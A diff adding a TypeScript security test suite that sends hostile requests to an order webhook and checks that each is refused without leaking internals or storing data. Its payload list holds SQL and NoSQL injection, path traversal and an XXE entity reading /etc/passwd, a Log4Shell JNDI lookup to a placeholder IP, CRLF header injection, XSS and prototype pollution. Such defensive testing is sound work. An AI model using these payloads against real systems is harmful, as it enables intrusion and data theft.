@@ -1,0 +1,207 @@
+import { request as httpRequest, type IncomingMessage } from 'node:http';
+import { gzipSync } from 'node:zlib';
+import { describe, expect, inject, test } from 'vitest';
+import { useStack } from './stack-fixture.ts';
+
+const stack = useStack();
+const { outputs, webhookCredentials } = inject('localStack');
+const { username, password } = webhookCredentials;
+const authorization = `Basic ${Buffer.from(`${username}:${password}`).toString('base64')}`;
+
+interface Answer {
+  readonly status: number;
+  readonly body: string;
+  readonly seconds: number;
+}
+
+/** Sends what `fetch` would refuse to send. */
+const send = (
+  url: URL,
+  path: string,
+  method: string,
+  headers: Record<string, string | string[]>,
+  body?: string | Buffer,
+): Promise<Answer> => {
+  const startedAt = performance.now();
+  return new Promise((resolve, reject) => {
+    const { hostname, port } = url;
+    const outgoing = httpRequest({ hostname, port, path, method, headers }, (response: IncomingMessage) => {
+      const chunks: Buffer[] = [];
+      response.on('data', (chunk) => chunks.push(chunk));
+      response.on('end', () =>
+        resolve({
+          status: response.statusCode ?? 0,
+          body: Buffer.concat(chunks).toString(),
+          seconds: (performance.now() - startedAt) / 1000,
+        }),
+      );
+    });
+    outgoing.on('error', reject);
+    outgoing.end(body);
+  });
+};
+
+const orderUuid = crypto.randomUUID();
+const itemUuid = crypto.randomUUID();
+const GOOD = {
+  order_id: '1',
+  order_uuid: orderUuid,
+  order_created: '2026-03-01T10:00:00+0000',
+  order_updated: '2026-03-01T10:00:00+0000',
+  order_version: '1',
+  order_item_uuid: itemUuid,
+  order_item_created: '2026-03-01T10:00:00+0000',
+  order_item_updated: '2026-03-01T10:00:00+0000',
+  order_item_version: '1',
+  order_item_status: 'OK',
+};
+const good = JSON.stringify(GOOD);
+const withField = (field: keyof typeof GOOD, value: unknown): string =>
+  JSON.stringify({ ...GOOD, [field]: value });
+
+const BODIES: readonly (string | Buffer)[] = [
+  '',
+  ' ',
+  '{',
+  '{}',
+  '[]',
+  'null',
+  'true',
+  '0',
+  'NaN',
+  '"text"',
+  '\u0000',
+  '\ufeff{}',
+  Buffer.from([0xff, 0xfe, 0x00, 0x80, 0xc3, 0x28]),
+  gzipSync(good),
+  '['.repeat(30_000),
+  `${'{"a":'.repeat(10_000)}1${'}'.repeat(10_000)}`,
+  `{"__proto__":${good}}`,
+  `{"constructor":{"prototype":{"isAdmin":true}}}`,
+  `[${good}]`,
+  JSON.stringify(good),
+  `${good}${good}`,
+  good.replaceAll('"', "'"),
+  good.replace('"1"', '1e999'),
+  withField('order_uuid', `${orderUuid}' OR '1'='1`),
+  withField('order_uuid', '../../etc/passwd'),
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: what an attacker sends
+  withField('order_item_status', '${jndi:ldap://192.0.2.1/a}'),
+  withField('order_item_status', 'OK\r\nSet-Cookie: a=b'),
+  withField('order_item_status', '<script>alert(1)</script>'),
+  withField('order_item_status', 'A'.repeat(60_000)),
+  withField('order_item_version', '9'.repeat(5000)),
+  withField('order_item_version', -1),
+  withField('order_item_version', { $gt: '' }),
+  withField('order_created', `2026-03-01T10:00:00.${'1'.repeat(50_000)}`),
+  withField('order_id', ['1']),
+  withField('order_item_uuid', null),
+  withField('order_item_uuid', `${itemUuid}#22#OK`),
+  'order_uuid=1&order_item_uuid=2',
+  '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
+  'x'.repeat(64 * 1024 + 1),
+  'x'.repeat(1024 * 1024),
+];
+
+const AUTHORIZATIONS: readonly string[] = [
+  '',
+  'Basic',
+  'Basic ',
+  'Basic :',
+  'Basic Og==',
+  'Basic ====',
+  'Basic !!!!',
+  `Basic ${btoa(username)}`,
+  `Basic ${btoa(`${username}:`)}`,
+  `Basic ${btoa(`:${password}`)}`,
+  `Basic ${btoa(`${username}:${password} `)}`,
+  `Basic ${btoa(`${username}:${password.toLowerCase()}x`)}`,
+  `Basic ${btoa(`${username}\u0000:${password}`)}`,
+  `Basic ${btoa('a'.repeat(6000))}`,
+  `Basic ${authorization}`,
+  `${authorization}, ${authorization}`,
+  `Bearer ${btoa(`${username}:${password}`)}`,
+  `Digest username="${username}"`,
+  'AWS4-HMAC-SHA256 Credential=test/20260301/eu-west-1/execute-api/aws4_request, SignedHeaders=host, Signature=0',
+  `${username}:${password}`,
+];
+
+const webhook = new URL(outputs.WebhookUrl);
+const post = (headers: Record<string, string>, body: string | Buffer): Promise<Answer> =>
+  send(webhook, webhook.pathname, 'POST', { 'content-type': 'application/json', ...headers }, body);
+
+/** What every answer to bad input is like. */
+const expectRefusal = ({ status, body, seconds }: Answer, ...statuses: number[]): void => {
+  expect(statuses).toContain(status);
+  expect(body.length).toBeLessThan(2000);
+  expect(seconds).toBeLessThan(5);
+  expect(body).not.toMatch(/ at .*\.(ts|mjs|js):\d+|node_modules|arn:aws|DynamoDB/);
+};
+
+const expectNothingStored = async (): Promise<void> =>
+  expect((await stack.orders.read(orderUuid)).status).toBe(404);
+
+describe('hostile requests', () => {
+  test('no body gets in without credentials, nor a reason for its refusal', async () => {
+    const reasons = new Set<string>();
+    for (const body of [...BODIES, good]) {
+      const answer = await post({}, body);
+      expectRefusal(answer, 401);
+      reasons.add(answer.body);
+    }
+    expect(reasons.size).toBe(1);
+    await expectNothingStored();
+  });
+
+  test('no credentials but the right ones get a good webhook in', async () => {
+    for (const guess of AUTHORIZATIONS) {
+      expectRefusal(await post({ authorization: guess }, good), 401);
+    }
+    await expectNothingStored();
+  });
+
+  test('no malformed body is stored with the right credentials, nor answered with 5xx', async () => {
+    for (const body of BODIES) expectRefusal(await post({ authorization }, body), 400, 413);
+    await expectNothingStored();
+  });
+
+  test.for([
+    'text/plain',
+    'application/jsonx',
+    'application/x-www-form-urlencoded',
+    '',
+    'multipart/form-data',
+  ])('I9 content type "%s" is refused', async (type) => {
+    expectRefusal(await post({ authorization, 'content-type': type }, good), 415);
+    await expectNothingStored();
+  });
+
+  test.for(['GET', 'PUT', 'DELETE', 'PATCH', 'HEAD'])('I9 %s of the webhook is refused', async (method) => {
+    const headers = { authorization, 'content-type': 'application/json' };
+    expectRefusal(await send(webhook, webhook.pathname, method, headers), 403, 404, 405);
+    await expectNothingStored();
+  });
+
+  test.for(['/', '/Webhooks', '/webhooks/more', '/webhook', '/orders', '/.env', '/orders/../webhooks/x'])(
+    'I9 there is nothing at %s',
+    async (path) => {
+      const base = webhook.pathname.replace(/\/webhooks$/, '');
+      const headers = { authorization, 'content-type': 'application/json' };
+      expectRefusal(await send(webhook, `${base}${path}`, 'POST', headers, good), 403, 404, 405);
+      await expectNothingStored();
+    },
+  );
+
+  test.for([
+    ['nothing', ''],
+    ['a null byte', '%00'],
+    ['another folder', '..%2f..'],
+    ['a query', "1'%20OR%20'1'='1"],
+    ['a header', `${orderUuid}%0d%0aX:1`],
+    ['4,000 letters', 'x'.repeat(4000)],
+  ])('an order named by %s is refused', async ([, name = '']) => {
+    const response = await stack.orders.read(name);
+    expect([400, 403, 404, 414]).toContain(response.status);
+    expect((await response.text()).length).toBeLessThan(2000);
+  });
+});
